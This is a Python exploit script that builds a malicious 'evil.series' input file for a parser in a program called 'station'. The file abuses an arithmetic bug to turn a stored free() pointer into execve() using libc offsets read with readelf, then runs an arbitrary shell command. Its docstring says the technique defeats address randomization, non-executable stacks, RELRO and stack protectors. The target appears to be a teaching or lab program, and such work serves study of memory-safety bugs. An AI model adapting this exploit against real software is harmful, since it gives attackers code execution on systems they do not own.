#!/usr/bin/env python3
"""Write good.series, and evil.series, which takes over the parser of series.c.

The bug lets a file do arithmetic on the fields behind the channels. So it needs no address: it makes `report` from
`release`, which points to libc's free(), by adding the distance between free() and execve() in the libc of this
machine. Address randomization, a stack that cannot be executed, RELRO and stack protectors do not matter.
"""
import struct
import subprocess
import sys

RELEASE, REPORT, USER = 16, 17, 18  # "channels" behind the last one


def text(operation, s):
    return operation + bytes([len(s)]) + s.encode()


def delta(channel, n):
    return b"d" + struct.pack("<Bq", channel, n)


def good():
    return text(b"n", "roof") + text(b"l", "temperature") + text(b"l", "celsius") + delta(0, 21) + delta(0, -2) + b"a\1\0r"


def evil(libc, command):
    to_execve = symbol(libc, "execve") - symbol(libc, "free")
    return b"".join([
        text(b"n", "/bin/sh"), text(b"l", "sh"), text(b"l", "-c"), text(b"l", command),
        bytes([ord("s"), REPORT, REPORT]),  # report = 0
        bytes([ord("a"), REPORT, RELEASE]),  # report += free
        delta(REPORT, to_execve),
        bytes([ord("s"), USER, USER]),  # no environment
        b"r",  # execve("/bin/sh", {"sh", "-c", command}, NULL)
    ])


def symbol(path, name):
    out = subprocess.run(["readelf", "-W", "--dyn-syms", path], check=True, capture_output=True, text=True).stdout
    for line in out.splitlines():
        fields = line.split()
        if len(fields) == 8 and fields[7].split("@")[0] == name and fields[6] != "UND":
            return int(fields[1], 16)
    sys.exit(f"{path}: no symbol {name}")


def libc_of(program):
    for line in subprocess.run(["ldd", program], check=True, capture_output=True, text=True).stdout.splitlines():
        if line.strip().startswith("libc.so.6"):
            return line.split()[2]
    sys.exit(f"{program}: not linked with glibc")


if __name__ == "__main__":
    command = sys.argv[1] if len(sys.argv) > 1 else 'echo "ATTACKER: this is a shell, pid $$"'
    with open("good.series", "wb") as f:
        f.write(good())
    with open("evil.series", "wb") as f:
        f.write(evil(libc_of("./station"), command))
